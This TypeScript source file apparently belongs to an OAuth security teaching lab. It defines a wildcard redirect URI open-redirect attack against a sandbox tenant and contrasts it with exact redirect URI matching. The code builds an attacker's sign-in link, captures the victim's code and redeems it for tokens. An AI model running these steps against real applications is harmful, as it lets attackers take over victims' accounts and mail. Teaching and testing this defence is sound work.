/**
 * Open redirect through a wildcard redirect URI: the app's registration accepts any address on its site
 * (`https://app.example/*`) instead of its one callback. The attacker sends the victim a genuine sign-in
 * link of the genuine app whose redirect_uri is a page on that site the attacker controls (user content,
 * or an open redirector); the victim signs in, and the authorization server delivers her code there.
 * The attacker started the request, so they hold the PKCE verifier and state too, and redeem the code.
 * Exact redirect URI matching stops it at the authorization server: AADSTS50011, and no code is issued.
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.1
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-2.1
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.11
 */
import { readCallbackParameters } from '../../protocol/callback.ts';
import { ProtocolViolationError } from '../../protocol/errors.ts';
import { decodeJwt } from '../../protocol/jwt.ts';
import { calculateCodeChallenge, generateCodeVerifier, generateRandomState } from '../../protocol/pkce.ts';
import { buildTokenRequest, type TokenResponse } from '../../protocol/token.ts';
import { browserRoute, readTokenExchange, sendTokenRequest } from '../token-request.ts';
import { LAB_USERS, loadLabTenant, SandboxErrorPage, signInAs, type LabTenant } from './sandbox-lab.ts';
import { ATTACKER, type AttackContext, type AttackDefinition } from './types.ts';

/** The seeded single-page app: its one registered redirect URI is the app's /callback. */
const SPA_APP = 'Flow Lab SPA';

/** The path of the page on the app's site the attacker controls (it is never opened: the run stops before). */
export const ATTACKER_PAGE_PATH = '/users/attacker/profile';

/**
 * What a wildcard redirect URI run carries from step to step.
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.1
 */
export interface RedirectUriWildcardContext extends AttackContext {
  readonly tenant?: LabTenant;
  /** The attacker's page on the app's site, sent as redirect_uri. */
  readonly attackerUri?: string;
  /** The attacker's own PKCE verifier: they started the request, so they hold it. */
  readonly codeVerifier?: string;
  readonly link?: string;
  readonly redirectedTo?: string;
  readonly code?: string;
  readonly tokens?: TokenResponse;
}

function need<T>(value: T | undefined, what: string): T {
  if (value === undefined)
    throw new ProtocolViolationError(
      'MISSING_PARAMETER',
      `${what} is missing: run the attack from its first step.`,
    );
  return value;
}

/** The address a registered redirect URI stands for in the vulnerable run: its whole site. */
function wildcardOf(registered: string): string {
  try {
    return `${new URL(registered).origin}/*`;
  } catch {
    return `${registered}*`;
  }
}

/**
 * Open redirect through a wildcard redirect URI, as an attack lab definition.
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.1
 */
export const redirectUriWildcardAttack: AttackDefinition<RedirectUriWildcardContext> = {
  id: 'redirect-uri-wildcard',
  title: 'Open redirect: a wildcard redirect URI',
  defence: 'exact redirect URI matching',
  summary:
    'The server sends codes only to an address registered exactly, so an attacker’s page under the same prefix never receives one.',
  specs: [
    { label: 'RFC 9700 §4.1', href: 'https://www.rfc-editor.org/rfc/rfc9700#section-4.1' },
    { label: 'RFC 9700 §2.1', href: 'https://www.rfc-editor.org/rfc/rfc9700#section-2.1' },
    { label: 'RFC 9700 §4.11', href: 'https://www.rfc-editor.org/rfc/rfc9700#section-4.11' },
    { label: 'RFC 6749 §3.1.2.2', href: 'https://www.rfc-editor.org/rfc/rfc6749#section-3.1.2.2' },
  ],
  actors: [
    { id: ATTACKER, label: 'Attacker (a page on the app’s site)', attacker: true },
    { id: 'victim', label: 'Victim’s browser' },
    { id: 'as', label: 'Sandbox tenant' },
  ],
  runs: {
    vulnerable: {
      title: 'the registration is a wildcard',
      explanation:
        'The sandbox reads the app’s registered redirect URI as a wildcard over its whole site (http://localhost:5173/* instead of …/callback), as registrations that allowed wildcards did. Entra no longer accepts such registrations; the sandbox switch exists only for this run.',
      switches: { wildcardRedirectUris: true },
      expected: 'attack-works',
    },
    defended: {
      title: 'exact redirect URI matching',
      explanation:
        'The same link; the sandbox compares redirect_uri with the registered URIs character for character (only the port of http://localhost may differ), as Entra does.',
      expected: 'defence-stops',
    },
  },
  initialContext: (mode) => ({ mode }),
  steps: [
    {
      id: 'attacker-link',
      title: 'The attacker writes a sign-in link of the real app, with their own page as redirect_uri',
      actor: ATTACKER,
      why: 'Everything in the link is the real app’s (client_id, scopes) except the redirect_uri: a page on the app’s own site whose content the attacker controls.',
      spec: 'RFC 9700 §4.1.1',
      run: async (ctx, deps) => {
        const { tenant, exchange } = await loadLabTenant(SPA_APP, deps);
        const attackerUri = `${new URL(deps.redirectUri).origin}${ATTACKER_PAGE_PATH}`;
        // The attacker starts the request, so PKCE binds the code to the attacker: they hold the verifier.
        const codeVerifier = generateCodeVerifier();
        const { challenge } = await calculateCodeChallenge(codeVerifier, 'S256');
        const url = new URL(tenant.endpoints.authorization);
        url.search = new URLSearchParams({
          client_id: tenant.app.clientId,
          response_type: 'code',
          redirect_uri: attackerUri,
          scope: 'openid profile User.Read',
          response_mode: 'query',
          state: generateRandomState(),
          code_challenge: challenge,
          code_challenge_method: 'S256',
        }).toString();
        const registered = tenant.app.redirectUris.join(', ') || '(none)';
        return {
          ctx: { ...ctx, tenant, attackerUri, codeVerifier, link: url.href },
          said: 'The link looks like any sign-in to the app: the real sign-in page of the real tenant, for the real app.',
          facts: [
            {
              label: 'Registered redirect URIs',
              value:
                ctx.mode === 'vulnerable'
                  ? `${registered} — read as ${tenant.app.redirectUris.map(wildcardOf).join(', ')} (vulnerable)`
                  : registered,
            },
            { label: 'redirect_uri in the link (the attacker’s page)', value: attackerUri },
            { label: 'Sign-in link', value: url.href },
            { label: 'code_verifier (the attacker’s)', value: codeVerifier, secret: true },
          ],
          exchanges: [exchange],
        };
      },
    },
    {
      id: 'victim-signs-in',
      title: 'The victim opens the link and signs in',
      actor: 'victim',
      why: 'The victim checks what they can: the sign-in page is the tenant’s own, on its own address. The redirect_uri is inside the link, where nobody looks.',
      spec: 'RFC 6749 §3.1.2.2',
      run: async (ctx, deps) => {
        const link = need(ctx.link, 'The sign-in link');
        try {
          const signIn = await signInAs('adele', link, deps);
          return {
            ctx: { ...ctx, redirectedTo: signIn.redirectedTo },
            said: `${LAB_USERS.adele.displayName} signed in. The sandbox accepted the redirect_uri and sent her browser, with her code, to the attacker’s page.`,
            facts: [{ label: 'Her browser was sent to', value: signIn.redirectedTo, secret: true }],
            exchanges: [signIn.exchange],
          };
        } catch (error) {
          if (!(error instanceof SandboxErrorPage) || error.aadsts !== 'AADSTS50011') throw error;
          // RFC 9700 §2.1: exact string matching; an unregistered redirect_uri gets an error page, never a redirect.
          // The code and the sandbox's words are the outcome's refusal: this step only says what happened.
          return {
            ctx,
            said: 'The sandbox showed its error page instead of redirecting: the redirect_uri is not one the app registered. No code was issued.',
            ...(error.exchange === undefined ? {} : { exchanges: [error.exchange] }),
            verdict: {
              attackWorked: false,
              why: 'The redirect_uri in the link is not character for character one the app registered, so the sandbox refused the request on its own page (RFC 6749 §3.1.2.4: never redirect to an unverified address). No code left the sandbox; the attacker’s page received nothing.',
              refusal: { code: error.aadsts, message: error.description },
            },
          };
        }
      },
    },
    {
      id: 'attacker-receives',
      title: 'The attacker’s page receives the code',
      actor: ATTACKER,
      why: 'The code arrives in the query of the attacker’s page: its script reads it, or the server logs it.',
      spec: 'RFC 9700 §4.1.1',
      run: (ctx) => {
        const { params } = readCallbackParameters(need(ctx.redirectedTo, 'The redirect'));
        const code = params['code'];
        if (code === undefined)
          throw new ProtocolViolationError(
            'MISSING_PARAMETER',
            `The redirect carries no code${params['error'] === undefined ? '' : ` (${params['error']}: ${params['error_description'] ?? ''})`}.`,
          );
        return {
          ctx: { ...ctx, code },
          said: 'The attacker’s page read the victim’s code from its own address.',
          facts: [{ label: 'Victim’s code', value: code, secret: true }],
        };
      },
    },
    {
      id: 'attacker-redeems',
      title: 'The attacker redeems the code with their own verifier',
      actor: ATTACKER,
      why: 'The attacker’s page is on the app’s own site, so the sandbox takes its cross-origin token request as the app’s; the verifier is the attacker’s own.',
      spec: 'RFC 6749 §4.1.3',
      run: async (ctx, deps) => {
        const tenant = need(ctx.tenant, 'The tenant');
        const request = buildTokenRequest(
          need(tenant.endpoints.token, 'The token endpoint'),
          [
            ['grant_type', 'authorization_code'],
            ['client_id', tenant.app.clientId],
            ['code', need(ctx.code, 'The code')],
            ['redirect_uri', need(ctx.attackerUri, 'The attacker’s page')],
            ['code_verifier', need(ctx.codeVerifier, 'The verifier')],
          ],
          { method: 'none' },
        );
        const exchange = await sendTokenRequest(
          request,
          browserRoute('The attacker’s page redeems the code from the browser, as the SPA itself would.'),
          deps,
        );
        const tokens = readTokenExchange(exchange);
        const claims = decodeJwt(tokens.access_token).payload;
        const who = String(claims['upn'] ?? claims['preferred_username'] ?? claims['name'] ?? '?');
        return {
          ctx: { ...ctx, tokens },
          said: `The sandbox answered with tokens for ${who}.`,
          facts: [
            { label: 'Tokens issued for', value: who },
            { label: 'Access token', value: tokens.access_token, secret: true },
          ],
          exchanges: [exchange],
          verdict: {
            attackWorked: who.toLowerCase() === LAB_USERS.adele.username,
            why: `The attacker holds an access token for ${LAB_USERS.adele.displayName}, issued to the real app with the permissions she gave it: they can read her profile and mail as if they were the app. She only clicked a sign-in link of an app she trusts.`,
          },
        };
      },
    },
  ],
  diagram: {
    actors: [
      { id: ATTACKER, label: 'Attacker (a page on the app’s site)', attacker: true },
      { id: 'victim', label: 'Victim’s browser' },
      { id: 'as', label: 'Sandbox tenant' },
    ],
    messages: [
      {
        from: ATTACKER,
        to: 'victim',
        text: 'link: /authorize, redirect_uri = the attacker’s page',
        step: 'attacker-link',
      },
      { from: 'victim', to: 'as', text: 'GET /authorize, sign in', step: 'victim-signs-in', http: true },
      {
        from: 'as',
        to: 'victim',
        text: '302 to the attacker’s page with the code (it matches …/*)',
        step: 'victim-signs-in',
        reply: true,
        http: true,
        variant: 'vulnerable',
      },
      {
        from: 'as',
        to: 'victim',
        text: 'error page AADSTS50011: not registered',
        step: 'victim-signs-in',
        reply: true,
        failed: true,
        variant: 'defended',
      },
      {
        from: 'victim',
        to: ATTACKER,
        text: 'GET attacker’s page ?code=…',
        step: 'attacker-receives',
        variant: 'vulnerable',
      },
      {
        from: ATTACKER,
        to: 'as',
        text: 'POST /token code + attacker’s verifier',
        step: 'attacker-redeems',
        http: true,
        variant: 'vulnerable',
      },
      {
        from: 'as',
        to: ATTACKER,
        text: '200 tokens for the victim',
        step: 'attacker-redeems',
        reply: true,
        http: true,
        variant: 'vulnerable',
      },
    ],
  },
};
